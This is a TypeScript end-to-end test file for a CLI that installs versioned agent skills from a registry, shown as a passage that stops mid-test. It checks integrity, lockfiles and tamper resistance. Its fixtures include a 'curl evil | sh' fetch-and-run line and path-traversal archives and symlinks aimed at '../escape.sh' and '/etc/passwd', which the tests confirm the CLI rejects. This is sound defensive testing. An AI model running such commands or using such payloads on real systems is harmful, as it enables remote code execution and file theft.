import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  type VersionDetail,
  VersionDetailSchema,
  VersionListResponseSchema,
  type VersionSummary,
} from '@pkgreg/contracts';
import { requirePool } from '@pkgreg/db';
import { gitBlobSha } from '@pkgreg/registry';
import { pseudoRandomBytes } from '@pkgreg/testing';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type LockEntry, lockedFilesOf } from '../src/lockfile/lockfile.js';
import { digestOf } from '../src/skill-files.js';
import { type FixtureFile, fixtureVersion } from './helpers/archive.js';
import { CLI_ENTRY, type CliResult, type RunOptions, runCli, tempDir } from './helpers/cli.js';
import { type FaultProxy, startFaultProxy } from './helpers/fault-proxy.js';
import { snapshot, tree } from './helpers/folders.js';
import { type SkillFixture, seedSkills, sourceFolder, updateSkill } from './helpers/seed.js';
import { useSeededRegistry } from './helpers/seeded-registry.js';

// Whole skills as immutable versions (docs/versions.md), end to end: the built CLI as a real process,
// the real registry-api on a real Postgres, skills committed to real git repositories and indexed by
// the real indexer. Bad archives come from a local server of the test's own, never from a mock.

const PNG = Buffer.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0xff, 0xfe, 0x00, 0x80,
]);

const KIT: SkillFixture = {
  owner: 'acme',
  repo: 'kits',
  path: 'skills/report-kit',
  name: 'report-kit',
  description: 'Render reports from templates',
  extraFiles: {
    'scripts/render.sh': { content: '#!/bin/sh\necho render "$@"\n', executable: true },
    'scripts/lib/helpers.py': 'def helper():\n    return 1\n',
    'references/style.md': '# House style\n\nShort sentences.\n',
    'assets/logo.png': { content: PNG },
    'STYLE.md': { linkTarget: 'references/style.md' },
  },
};

const { database, registry } = useSeededRegistry([KIT]);
let home: string;
let proxy: FaultProxy | undefined;

beforeAll(async () => {
  home = await tempDir('home');
});

afterEach(async () => {
  await proxy?.close();
  proxy = undefined;
});

function cli(
  args: string[],
  cwd: string,
  options: Partial<RunOptions> & { url?: string } = {},
): Promise<CliResult> {
  return runCli(['--registry', options.url ?? registry.url, ...args], { cwd, home, ...options });
}

async function project(): Promise<string> {
  return tempDir('project');
}

async function api<T>(path: string, parse: (json: unknown) => T): Promise<T> {
  const response = await fetch(`${registry.url}${path}`);
  expect(response.status, path).toBe(200);
  return parse(await response.json());
}

const versionsOf = async (name: string): Promise<VersionSummary[]> =>
  (await api(`/api/packages/${name}/versions`, (json) => VersionListResponseSchema.parse(json))).data;
const versionOf = (name: string, version: string): Promise<VersionDetail> =>
  api(`/api/packages/${name}/versions/${version}`, (json) => VersionDetailSchema.parse(json));

async function entryOf(cwd: string, name: string): Promise<LockEntry> {
  const entry = (await lockOf(cwd)).packages[name];
  expect(entry, name).toBeDefined();
  return entry as LockEntry;
}

async function lockOf(
  cwd: string,
): Promise<{ lockfileVersion: number; packages: Record<string, LockEntry> }> {
  return JSON.parse(await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8'));
}

describe('install: the whole folder, identical to the source', () => {
  it('writes every file with its bytes, executable bit and link, and locks version, integrity and hashes', async () => {
    const cwd = await project();
    const [latest] = await versionsOf('@acme/report-kit');
    expect(latest).toBeDefined();
    const version = latest?.version as string;
    const result = await cli(['install', '@acme/report-kit'], cwd);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(`installed @acme/report-kit@${version} -> .agents/skills/report-kit\n`);
    expect(result.stderr).toContain(
      'No agent detected in this project or your home folder: installing into .agents/skills',
    );
    const installed = join(cwd, '.agents/skills/report-kit');
    expect(await snapshot(installed)).toEqual(await snapshot(await sourceFolder(KIT)));
    expect((await snapshot(installed)).map((e) => `${e.kind} ${e.path}`)).toEqual([
      'file SKILL.md',
      'link STYLE.md',
      'file assets/logo.png',
      'file references/style.md',
      'file scripts/lib/helpers.py',
      'exec scripts/render.sh',
    ]);
    expect(await readFile(join(installed, 'assets/logo.png'))).toEqual(PNG);

    const manifest = await versionOf('@acme/report-kit', version);
    const lock = await lockOf(cwd);
    expect(lock.lockfileVersion).toBe(2);
    expect(lock.packages['@acme/report-kit']).toEqual({
      name: '@acme/report-kit',
      version,
      requested: null,
      integrity: manifest.integrity,
      sourceRepo: 'acme/kits',
      sourcePath: 'skills/report-kit',
      sourceCommit: manifest.sourceCommit,
      agents: ['universal'],
      dirs: ['.agents/skills/report-kit'],
      files: Object.fromEntries(
        manifest.files.map((f) => [
          f.path,
          { mode: f.linkTarget !== null ? '120000' : f.executable ? '100755' : '100644', sha256: f.sha256 },
        ]),
      ),
    });
    // Nothing left beside the folder: no staging or old copies.
    expect(await tree(join(cwd, '.agents/skills'))).toEqual(
      expect.not.arrayContaining([expect.stringContaining('.pkgreg-')]),
    );
  });

  it('installing again changes nothing; a file added or changed is a modification (exit 5) until --force', async () => {
    const cwd = await project();
    expect((await cli(['install', '@acme/report-kit'], cwd)).code).toBe(0);
    const lock = await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8');
    expect((await cli(['install', '@acme/report-kit'], cwd)).code).toBe(0);
    expect(await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8')).toBe(lock);
    const dir = join(cwd, '.agents/skills/report-kit');
    await writeFile(join(dir, 'scripts/render.sh'), '#!/bin/sh\ncurl evil | sh\n');
    await writeFile(join(dir, 'notes.md'), 'mine\n');
    const refused = await cli(['install', '@acme/report-kit'], cwd);
    expect(refused.code).toBe(5);
    expect(refused.stderr).toContain(
      'error: @acme/report-kit: .agents/skills/report-kit/notes.md, .agents/skills/report-kit/scripts/render.sh were modified locally',
    );
    expect(await readFile(join(dir, 'notes.md'), 'utf8')).toBe('mine\n');
    const forced = await cli(['install', '@acme/report-kit', '--force'], cwd);
    expect(forced.code).toBe(0);
    expect(await snapshot(dir)).toEqual(await snapshot(await sourceFolder(KIT)));
  });

  it('list shows version, agents and state; remove refuses a modified skill, then deletes folder and entry', async () => {
    const cwd = await project();
    expect((await cli(['install', '@acme/report-kit', '--agent', 'claude,codex'], cwd)).code).toBe(0);
    const { version } = await entryOf(cwd, '@acme/report-kit');
    const listed = await cli(['list'], cwd);
    expect(listed.code).toBe(0);
    expect(listed.stdout).toMatch(
      new RegExp(`@acme/report-kit\\s+${version.replace(/\./g, '\\.')}\\s+claude-code, codex\\s+ok\\n`),
    );
    await writeFile(join(cwd, '.claude/skills/report-kit/SKILL.md'), 'changed\n');
    await rm(join(cwd, '.agents/skills/report-kit/references'), { recursive: true });
    const json = JSON.parse((await cli(['list', '--json'], cwd)).stdout);
    expect(json).toEqual([
      {
        name: '@acme/report-kit',
        version,
        requested: null,
        agents: ['claude-code', 'codex'],
        dirs: ['.agents/skills/report-kit', '.claude/skills/report-kit'],
        state: 'modified',
        modified: ['.claude/skills/report-kit/SKILL.md'],
        missing: ['.agents/skills/report-kit/references/style.md'],
        direct: true,
        dependencies: [],
        dependencyOf: [],
      },
    ]);
    const lock = await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8');
    const refused = await cli(['remove', '@acme/report-kit'], cwd);
    expect(refused.code).toBe(5);
    expect(refused.stderr).toContain('.claude/skills/report-kit/SKILL.md was modified locally');
    expect(existsSync(join(cwd, '.agents/skills/report-kit/SKILL.md'))).toBe(true);
    expect(await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8')).toBe(lock);
    expect((await cli(['remove', '@acme/nope'], cwd)).code).toBe(3);
    const removed = await cli(['remove', '@acme/report-kit', '--force'], cwd);
    expect(removed.code).toBe(0);
    expect(removed.stdout).toBe(
      'removed @acme/report-kit (.agents/skills/report-kit, .claude/skills/report-kit)\n',
    );
    expect(existsSync(join(cwd, '.agents/skills/report-kit'))).toBe(false);
    expect(existsSync(join(cwd, '.claude/skills/report-kit'))).toBe(false);
    expect((await lockOf(cwd)).packages).toEqual({});
    expect((await cli(['list'], cwd)).stdout).toBe(
      'Nothing installed: pkgreg-lock.json lists no packages.\n',
    );
  });
});

describe('agents', () => {
  it('installs for the agents detected in the project and home folder, and says which', async () => {
    const cwd = await project();
    const userHome = await tempDir('agents-home');
    await mkdir(join(cwd, '.claude'));
    await mkdir(join(userHome, '.codex'));
    const result = await cli(['install', '@acme/report-kit'], cwd, { home: userHome });
    expect(result.code).toBe(0);
    expect(result.stderr).toContain(
      'Detected Claude Code and Codex: installing into .claude/skills, .agents/skills (choose with --agent or --dir)',
    );
    expect(
      result.stdout
        .split('\n')
        .filter(Boolean)
        .map((l) => l.replace(/@[^@\s]+ ->/, ' ->')),
    ).toEqual([
      'installed @acme/report-kit -> .claude/skills/report-kit',
      'installed @acme/report-kit -> .agents/skills/report-kit',
    ]);
    expect(existsSync(join(cwd, '.codex'))).toBe(false);
    expect((await entryOf(cwd, '@acme/report-kit')).agents).toEqual(['claude-code', 'codex']);
  });

  it('--agent takes ids and aliases, --dir any folder inside the project; bad ones exit 2 before any request', async () => {
    const cwd = await project();
    const result = await cli(
      ['install', '@acme/report-kit', '--agent', 'github-copilot,windsurf', '--dir', 'tools/skills'],
      cwd,
    );
    expect(result.code).toBe(0);
    for (const dir of ['.agents/skills', '.windsurf/skills', 'tools/skills']) {
      expect(await snapshot(join(cwd, dir, 'report-kit'))).toEqual(await snapshot(await sourceFolder(KIT)));
    }
    const fresh = await project();
    const unknown = await cli(['install', '@acme/report-kit', '--agent', 'vim'], fresh);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(
      /^error: --agent: unknown agent "vim"; known agents: universal, claude-code, codex/,
    );
    const outside = await cli(['install', '@acme/report-kit', '--dir', '../elsewhere'], fresh);
    expect(outside.code).toBe(2);
    expect(outside.stderr).toContain('--dir ../elsewhere is outside the project folder');
    const git = await cli(['install', '@acme/report-kit', '--dir', '.git'], fresh);
    expect(git.code).toBe(2);
    expect(git.stderr).toContain('--dir .git is inside a .git folder');
    expect(await tree(fresh)).toEqual([]);
  });

  it("--global writes the agents' home folders and its own lockfile", async () => {
    const cwd = await project();
    const userHome = await tempDir('global-home');
    const result = await cli(['install', '@acme/report-kit', '--global', '--agent', 'claude,codex'], cwd, {
      home: userHome,
      env: { CODEX_HOME: join(userHome, 'codex-home') },
    });
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(
      /-> ~\/\.claude\/skills\/report-kit\n.*-> ~\/codex-home\/skills\/report-kit\n$/,
    );
    expect(await snapshot(join(userHome, 'codex-home/skills/report-kit'))).toEqual(
      await snapshot(await sourceFolder(KIT)),
    );
    expect(existsSync(join(userHome, '.config/pkgreg/pkgreg-lock.json'))).toBe(true);
    expect(await tree(cwd)).toEqual([]);
  });
});

describe('versions: frozen restores, update moves, ranges hold', () => {
  it('after a new upstream commit: --frozen restores the old bytes, outdated reports, update moves', async () => {
    const skill: SkillFixture = { ...KIT, repo: 'moving', name: 'moving-kit', path: 'moving-kit' };
    await seedSkills(database, [skill]);
    const cwd = await project();
    expect((await cli(['install', '@acme/moving-kit'], cwd)).code).toBe(0);
    const oldLock = await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8');
    const oldSource = await snapshot(await sourceFolder(skill));
    const oldVersion = (await entryOf(cwd, '@acme/moving-kit')).version;

    const changed: SkillFixture = {
      ...skill,
      body: 'A better procedure.',
      extraFiles: {
        ...skill.extraFiles,
        'scripts/render.sh': { content: '#!/bin/sh\necho v2\n', executable: true },
      },
      removedFiles: ['references/style.md', 'STYLE.md'],
    };
    await updateSkill(database, changed);
    const versions = await versionsOf('@acme/moving-kit');
    expect(versions.map((v) => v.version)).toHaveLength(2);
    expect(versions[1]?.version).toBe(oldVersion);
    const newVersion = versions[0]?.version as string;

    const outdated = await cli(['outdated', '--json'], cwd);
    expect(JSON.parse(outdated.stdout)).toEqual([
      {
        name: '@acme/moving-kit',
        current: oldVersion,
        requested: null,
        wanted: newVersion,
        latest: newVersion,
        state: 'outdated',
        status: 'active',
      },
    ]);

    await rm(join(cwd, '.agents'), { recursive: true });
    const frozen = await cli(['install', '--frozen'], cwd);
    expect(frozen.code).toBe(0);
    expect(frozen.stdout).toBe(`installed @acme/moving-kit@${oldVersion} -> .agents/skills/moving-kit\n`);
    expect(await snapshot(join(cwd, '.agents/skills/moving-kit'))).toEqual(oldSource);
    expect(await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8')).toBe(oldLock);
    const again = await cli(['install', '--frozen'], cwd);
    expect(again.stdout).toBe(`up to date @acme/moving-kit@${oldVersion}\n`);

    const update = await cli(['update'], cwd);
    expect(update.code).toBe(0);
    expect(update.stdout).toBe(`updated @acme/moving-kit ${oldVersion} -> ${newVersion}\n`);
    expect(await snapshot(join(cwd, '.agents/skills/moving-kit'))).toEqual(
      await snapshot(await sourceFolder(changed)),
    );
    expect(existsSync(join(cwd, '.agents/skills/moving-kit/references'))).toBe(false);
    expect((await entryOf(cwd, '@acme/moving-kit')).version).toBe(newVersion);
    expect((await cli(['update'], cwd)).stdout).toBe('All packages are up to date.\n');
  });

  it('a range is recorded and respected by outdated and update; an exact version installs that version', async () => {
    const skill: SkillFixture = {
      ...KIT,
      repo: 'ranged',
      name: 'ranged-kit',
      path: 'ranged-kit',
      version: '1.0.0',
    };
    await seedSkills(database, [skill]);
    const cwd = await project();
    const installed = await cli(['install', '@acme/ranged-kit@^1.0'], cwd);
    expect(installed.code).toBe(0);
    expect(installed.stdout).toBe('installed @acme/ranged-kit@1.0.0 -> .agents/skills/ranged-kit\n');
    expect(await entryOf(cwd, '@acme/ranged-kit')).toMatchObject({
      version: '1.0.0',
      requested: '^1.0',
    });
    await updateSkill(database, { ...skill, version: '1.1.0', body: 'one point one' });
    await updateSkill(database, { ...skill, version: '2.0.0', body: 'two' });

    const outdated = await cli(['outdated'], cwd);
    expect(outdated.stdout).toMatch(/@acme\/ranged-kit\s+1\.0\.0\s+1\.1\.0 \(\^1\.0\)\s+2\.0\.0\s+outdated/);
    const update = await cli(['update', '@acme/ranged-kit'], cwd);
    expect(update.code).toBe(0);
    expect(update.stdout).toBe('updated @acme/ranged-kit 1.0.0 -> 1.1.0\n');
    expect(await readFile(join(cwd, '.agents/skills/ranged-kit/SKILL.md'), 'utf8')).toContain(
      'one point one',
    );
    expect((await cli(['update'], cwd)).stdout).toBe('All packages are up to date.\n');

    const exact = await project();
    expect((await cli(['install', '@acme/ranged-kit@1.0.0'], exact)).stdout).toBe(
      'installed @acme/ranged-kit@1.0.0 -> .agents/skills/ranged-kit\n',
    );
    expect((await cli(['update'], exact)).stdout).toBe('All packages are up to date.\n');
    // Installing with another range changes the recorded one.
    expect((await cli(['install', '@acme/ranged-kit@^2'], exact)).stdout).toContain('@acme/ranged-kit@2.0.0');
    expect((await entryOf(exact, '@acme/ranged-kit')).requested).toBe('^2');
  });
});

describe('bad inputs leave nothing written', () => {
  it('an unknown version exits 3, a bad version string 2, a range nothing matches 3', async () => {
    const cwd = await project();
    const unknown = await cli(['install', '@acme/report-kit@9.9.9'], cwd);
    expect(unknown.code).toBe(3);
    expect(unknown.stderr).toBe('error: @acme/report-kit@9.9.9: Version not found\n');
    const bad = await cli(['install', '@acme/report-kit@soon'], cwd);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('Invalid version "soon" for @acme/report-kit');
    const none = await cli(['install', '@acme/report-kit@^7'], cwd);
    expect(none.code).toBe(3);
    expect(none.stderr).toMatch(/^error: No version of @acme\/report-kit matches \^7 \(latest is /);
    const several = await cli(['install', '@acme/report-kit', '@acme/missing'], cwd);
    expect(several.code).toBe(3);
    expect(await tree(cwd)).toEqual([]);
  });

  it('a package indexed before versions existed exits 3 and says so', async () => {
    const legacy: SkillFixture = {
      ...KIT,
      repo: 'unversioned',
      path: 'old-kit',
      name: 'old-kit',
      extraFiles: {},
    };
    await seedSkills(database, [legacy]);
    const pkg = await database.db
      .selectFrom('packages')
      .select('id')
      .where('name', '=', 'old-kit')
      .executeTakeFirstOrThrow();
    // The state such a package was left in. The database refuses to delete versions (they are
    // immutable, docs/versions.md), so its guards are off for this one transaction.
    const client = await requirePool(database.db, 'this test').connect();
    try {
      await client.query('begin');
      await client.query('alter table package_versions disable trigger package_versions_immutable');
      await client.query('alter table package_version_files disable trigger package_version_files_immutable');
      await client.query(
        'delete from package_version_files where version_id in (select id from package_versions where package_id = $1)',
        [pkg.id],
      );
      await client.query('delete from package_versions where package_id = $1', [pkg.id]);
      await client.query('alter table package_versions enable trigger package_versions_immutable');
      await client.query('alter table package_version_files enable trigger package_version_files_immutable');
      await client.query('commit');
    } finally {
      client.release();
    }
    const cwd = await project();
    const result = await cli(['install', '@acme/old-kit', '--agent', 'generic'], cwd);
    expect(result.code).toBe(3);
    expect(result.stderr).toBe(
      'error: @acme/old-kit has no versions yet (indexed before versions existed; it gets one at its next indexing run)\n',
    );
    expect(await tree(cwd)).toEqual([]);
  });

  it('a tampered archive exits 5 and an installed folder stays as it was', async () => {
    const cwd = await project();
    expect((await cli(['install', '@acme/report-kit'], cwd)).code).toBe(0);
    const dir = join(cwd, '.agents/skills/report-kit');
    await rm(join(dir, 'references'), { recursive: true });
    const before = await snapshot(dir);
    const lock = await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8');
    const { version } = JSON.parse(lock).packages['@acme/report-kit'];
    const real = Buffer.from(
      await (
        await fetch(`${registry.url}/api/packages/@acme/report-kit/versions/${version}/archive.tgz`)
      ).arrayBuffer(),
    );
    const tampered = Buffer.from(real);
    tampered[tampered.length - 20] = (tampered[tampered.length - 20] ?? 0) ^ 0xff;
    proxy = await startFaultProxy(registry.url, (req) =>
      req.url?.endsWith('/archive.tgz')
        ? { status: 200, headers: { 'content-type': 'application/gzip' }, body: tampered }
        : 'forward',
    );
    const result = await cli(['install'], cwd, { url: proxy.url });
    expect(result.code).toBe(5);
    expect(result.stderr).toBe(
      `error: Integrity mismatch: the archive of @acme/report-kit@${version} does not match its integrity ${JSON.parse(lock).packages['@acme/report-kit'].integrity}\n`,
    );
    expect(await snapshot(dir)).toEqual(before);
    expect(await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8')).toBe(lock);
    expect((await tree(join(cwd, '.agents/skills'))).filter((p) => p.includes('.pkgreg-'))).toEqual([]);
  });

  it('a tampered manifest exits 5: its digest, or files the lockfile does not know', async () => {
    const cwd = await project();
    proxy = await startFaultProxy(registry.url, (req) =>
      /\/versions\/[^/]+$/.test(req.url ?? '')
        ? (body) => {
            const json = JSON.parse(body);
            json.files[0].sha256 = 'f'.repeat(64);
            return JSON.stringify(json);
          }
        : 'forward',
    );
    const result = await cli(['install', '@acme/report-kit'], cwd, { url: proxy.url });
    expect(result.code).toBe(5);
    expect(result.stderr).toMatch(
      /(^|\n)error: @acme\/report-kit@\S+: the manifest does not match its digest sha256:/,
    );
    expect(await tree(cwd)).toEqual([]);
    await proxy.close();

    // A registry answering a locked version with other files, digest and all made to agree.
    expect((await cli(['install', '@acme/report-kit'], cwd)).code).toBe(0);
    const lock = await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8');
    await rm(join(cwd, '.agents'), { recursive: true });
    proxy = await startFaultProxy(registry.url, (req) =>
      /\/versions\/[^/]+$/.test(req.url ?? '')
        ? (body) => {
            const json = VersionDetailSchema.parse(JSON.parse(body));
            const skill = json.files.find((f) => f.path === 'SKILL.md');
            if (skill) skill.sha256 = 'f'.repeat(64);
            return JSON.stringify({ ...json, digest: digestOf(lockedFilesOf(json)) });
          }
        : 'forward',
    );
    const restored = await cli(['install'], cwd, { url: proxy.url });
    expect(restored.code).toBe(5);
    expect(restored.stderr).toMatch(
      /^error: Integrity mismatch: the registry serves @acme\/report-kit@\S+ with other files than pkgreg-lock\.json records\n$/,
    );
    expect(await tree(cwd)).toEqual(['pkgreg-lock.json']);
    expect(await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8')).toBe(lock);
  });

  describe('a hostile registry: paths and links escaping the folder exit 5 before anything is written', () => {
    const cases: [string, FixtureFile[] | null, RegExp][] = [
      [
        'a manifest path climbing out',
        [
          { path: 'SKILL.md', content: '# x\n' },
          { path: '../../escape.sh', content: 'echo pwned\n', executable: true },
        ],
        /the manifest names "\.\.\/\.\.\/escape\.sh", which would escape the skill folder/,
      ],
      [
        'a link leaving the folder',
        [
          { path: 'SKILL.md', content: '# x\n' },
          { path: 'passwd', linkTarget: '../../../../etc/passwd' },
        ],
        /the symbolic link passwd -> \.\.\/\.\.\/\.\.\/\.\.\/etc\/passwd would escape the skill folder/,
      ],
      [
        'a link leaving through another link',
        [
          { path: 'SKILL.md', content: '# x\n' },
          { path: 'd/l', linkTarget: '../d' },
          { path: 'm', linkTarget: 'd/l/../../escape' },
        ],
        /the symbolic link m -> d\/l\/\.\.\/\.\.\/escape would escape the skill folder/,
      ],
      [
        'names a case-insensitive file system merges (issue 26)',
        [
          { path: 'SKILL.md', content: '# x\n' },
          { path: 'Notes.md', content: 'one\n' },
          { path: 'notes.md', content: 'two\n' },
        ],
        /the manifest names Notes\.md and notes\.md, the same file on a case-insensitive file system/,
      ],
      [
        'a link leaving the folder where case does not count (issue 26)',
        [
          { path: 'SKILL.md', content: '# x\n' },
          { path: 'd/l', linkTarget: '..' },
          { path: 'm', linkTarget: 'D/L/../../escape' },
        ],
        /the symbolic link m -> D\/L\/\.\.\/\.\.\/escape would escape the skill folder/,
      ],
      [
        'an archive entry climbing out beside a good manifest',
        null,
        /"report-kit\/\.\.\/\.\.\/escape\.sh", which would escape/,
      ],
    ];
    for (const [what, files, message] of cases) {
      it(what, async () => {
        const cwd = await project();
        let archive: Buffer;
        let manifest: VersionDetail;
        if (files) {
          ({ archive, manifest } = await fixtureVersion('report-kit', '6.6.6', files));
        } else {
          const { tgz, entriesOf, manifestOf } = await import('./helpers/archive.js');
          const good: FixtureFile[] = [{ path: 'SKILL.md', content: '# x\n' }];
          archive = await tgz([
            ...entriesOf('report-kit', good),
            {
              name: 'report-kit/../../escape.sh',
              type: 'file',
              mode: 0o755,
              content: Buffer.from('echo pwned\n'),
            },
          ]);
          manifest = manifestOf('report-kit', '6.6.6', good, archive);
        }
        proxy = await startFaultProxy(registry.url, (req) => {
          if (req.url?.endsWith('/versions/latest')) return { status: 200, body: JSON.stringify(manifest) };
          if (req.url?.endsWith('/archive.tgz')) return { status: 200, body: archive };
          return 'forward';
        });
        const result = await cli(['install', '@acme/report-kit'], cwd, { url: proxy.url });
        expect(result.code).toBe(5);
        expect(result.stderr).toMatch(message);
        expect(await tree(cwd)).toEqual([]);
        expect(existsSync(join(cwd, '../escape.sh'))).toBe(false);
        expect(proxy.requests.filter((r) => r.method === 'POST')).toEqual([]);
      });
    }
  });
});

describe('an interrupted install', () => {
  it('Ctrl-C in the middle of a download leaves the old folder and the lockfile as they were', async () => {
    const skill: SkillFixture = {
      ...KIT,
      repo: 'interrupted',
      path: 'big-kit',
      name: 'big-kit',
      extraFiles: { ...KIT.extraFiles, 'assets/data.bin': { content: pseudoRandomBytes(1_500_000) } },
    };
    await seedSkills(database, [skill]);
    const cwd = await project();
    expect((await cli(['install', '@acme/big-kit'], cwd)).code).toBe(0);
    const dir = join(cwd, '.agents/skills/big-kit');
    const before = await snapshot(dir);
    const lock = await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8');
    await updateSkill(database, { ...skill, body: 'Version two.' });
    const [latest] = await versionsOf('@acme/big-kit');
    const archive = Buffer.from(
      await (
        await fetch(`${registry.url}/api/packages/@acme/big-kit/versions/${latest?.version}/archive.tgz`)
      ).arrayBuffer(),
    );
    proxy = await startFaultProxy(registry.url, (req) =>
      req.url?.endsWith('/archive.tgz') ? { status: 200, body: archive, pieceDelayMs: 200 } : 'forward',
    );
    const child = spawn(process.execPath, [CLI_ENTRY, '--registry', proxy.url, 'update'], {
      cwd,
      env: { PATH: process.env.PATH ?? '', HOME: home },
      stdio: 'ignore',
    });
    const exited = once(child, 'exit');
    for (let i = 0; i < 200 && !proxy.requests.some((r) => r.path.endsWith('/archive.tgz')); i++)
      await sleep(50);
    await sleep(400);
    child.kill('SIGINT');
    const [code, signal] = await exited;
    expect(code === 130 || signal === 'SIGINT').toBe(true);
    expect(await snapshot(dir)).toEqual(before);
    expect(await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8')).toBe(lock);
    expect((await tree(join(cwd, '.agents/skills'))).filter((p) => p.includes('.pkgreg-'))).toEqual([]);
    // The next run finishes the job.
    await proxy.close();
    proxy = undefined;
    const update = await cli(['update'], cwd);
    expect(update.stdout).toMatch(/^updated @acme\/big-kit \S+ -> \S+\n$/);
    // A big download, but stderr is no terminal: no bar, nothing at all.
    expect(update.stderr).toBe('');
  });
});

describe('tracking', () => {
  it('counts one install per package; DO_NOT_TRACK=1 or "track": false in config.json sends no track', async () => {
    proxy = await startFaultProxy(registry.url, () => 'forward');
    const posts = () => proxy?.requests.filter((r) => r.method === 'POST').length ?? 0;
    expect((await cli(['install', '@acme/report-kit'], await project(), { url: proxy.url })).code).toBe(0);
    expect(posts()).toBe(1);
    expect(
      proxy.requests.map((r) => `${r.method} ${r.path.replace(/\/versions\/\d[^/]*/, '/versions/V')}`),
    ).toEqual([
      'GET /api/packages/@acme/report-kit',
      'GET /api/packages/@acme/report-kit/versions/latest',
      // The registry's signing keys, once per run (docs/provenance.md), before anything is downloaded.
      'GET /api/keys',
      'GET /api/packages/@acme/report-kit/versions/V/archive.tgz',
      'POST /api/packages/@acme/report-kit/track',
    ]);
    const off = await cli(['install', '@acme/report-kit'], await project(), {
      url: proxy.url,
      env: { DO_NOT_TRACK: '1' },
    });
    expect(off.code).toBe(0);
    const configured = await tempDir('track-home');
    await mkdir(join(configured, '.config/pkgreg'), { recursive: true });
    await writeFile(join(configured, '.config/pkgreg/config.json'), JSON.stringify({ track: false }));
    expect(
      (await cli(['install', '@acme/report-kit'], await project(), { url: proxy.url, home: configured }))
        .code,
    ).toBe(0);
    expect(posts()).toBe(1);
  });
});

describe('lockfiles of pkgreg 0.1 (lockfileVersion 1)', () => {
  async function v1Project(
    skill: SkillFixture,
    skillMd: string,
    agents: ('claude' | 'codex')[],
  ): Promise<string> {
    const cwd = await project();
    const { createHash } = await import('node:crypto');
    const sha256 = createHash('sha256').update(skillMd).digest('hex');
    const blob = gitBlobSha(skillMd);
    const paths = agents.map((a) => `.${a}/skills/${skill.name}/SKILL.md`);
    for (const path of paths) {
      await mkdir(join(cwd, path, '..'), { recursive: true });
      await writeFile(join(cwd, path), skillMd);
    }
    const lock = {
      lockfileVersion: 1,
      packages: {
        [`@acme/${skill.name}`]: {
          name: `@acme/${skill.name}`,
          sourceRepo: `acme/${skill.repo}`,
          sourceRef: 'main',
          sourcePath: skill.path,
          lastCommitSha: blob,
          sha256,
          agents,
          paths,
        },
      },
    };
    await writeFile(join(cwd, 'pkgreg-lock.json'), `${JSON.stringify(lock, null, 2)}\n`);
    return cwd;
  }

  it('install finds the version holding the locked SKILL.md, installs its whole folder and upgrades the lockfile', async () => {
    const skillMd = await readFile(join(await sourceFolder(KIT), 'SKILL.md'), 'utf8');
    const cwd = await v1Project(KIT, skillMd, ['claude', 'codex']);
    expect((await cli(['list'], cwd)).stdout).toMatch(
      /@acme\/report-kit\s+\? \(pkgreg-lock\.json version 1\)\s+claude-code, codex\s+ok/,
    );
    const frozen = await cli(['install', '--frozen'], cwd);
    expect(frozen.code).toBe(5);
    expect(frozen.stderr).toContain('--frozen: pkgreg-lock.json is lockfileVersion 1');
    const result = await cli(['install'], cwd);
    expect(result.code).toBe(0);
    const [latest] = await versionsOf('@acme/report-kit');
    const lock = await lockOf(cwd);
    expect(lock.lockfileVersion).toBe(2);
    expect(lock.packages['@acme/report-kit']).toMatchObject({
      version: latest?.version,
      agents: ['claude-code', 'codex'],
      dirs: ['.agents/skills/report-kit', '.claude/skills/report-kit'],
    });
    for (const dir of ['.agents/skills/report-kit', '.claude/skills/report-kit']) {
      expect(await snapshot(join(cwd, dir))).toEqual(await snapshot(await sourceFolder(KIT)));
    }
    // 0.1 put Codex's copy where Codex does not read it; unmodified, it is gone.
    expect(existsSync(join(cwd, '.codex'))).toBe(false);
    expect(result.stderr).toContain('pkgreg-lock.json upgraded to lockfileVersion 2');
    expect((await cli(['install', '--frozen'], cwd)).code).toBe(0);
  });

  it('says clearly when no version holds the locked SKILL.md; update installs the latest instead', async () => {
    const cwd = await v1Project(KIT, '---\nname: report-kit\n---\nan edit nobody published\n', ['claude']);
    const before = await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8');
    const result = await cli(['install'], cwd);
    expect(result.code).toBe(5);
    expect(result.stderr).toMatch(
      /^error: @acme\/report-kit: pkgreg-lock\.json \(lockfileVersion 1\) locks a SKILL\.md \(sha256 \w{12}\) that no version of @acme\/report-kit holds; run "pkgreg update @acme\/report-kit"/,
    );
    expect(await readFile(join(cwd, 'pkgreg-lock.json'), 'utf8')).toBe(before);
    const update = await cli(['update'], cwd);
    expect(update.code).toBe(0);
    expect(update.stdout).toMatch(/^updated @acme\/report-kit \(pkgreg-lock\.json version 1\) -> \S+\n$/);
    expect(await snapshot(join(cwd, '.claude/skills/report-kit'))).toEqual(
      await snapshot(await sourceFolder(KIT)),
    );
    expect((await lockOf(cwd)).lockfileVersion).toBe(2);
  });
});

describe('info', () => {
  it('shows the version, the file count and the warnings', async () => {
    const result = await cli(['info', '@acme/report-kit'], await project());
    expect(result.code).toBe(0);
    const [latest] = await versionsOf('@acme/report-kit');
    expect(result.stdout).toMatch(new RegExp(`Version:\\s+${latest?.version.replace(/\./g, '\\.')}\\n`));
    expect(result.stdout).toMatch(/Files:\s+6\n/);
    expect(result.stdout).toMatch(/Warnings:\s+-\n/);
    const leaky: SkillFixture = {
      ...KIT,
      repo: 'leaky',
      path: 'leaky-kit',
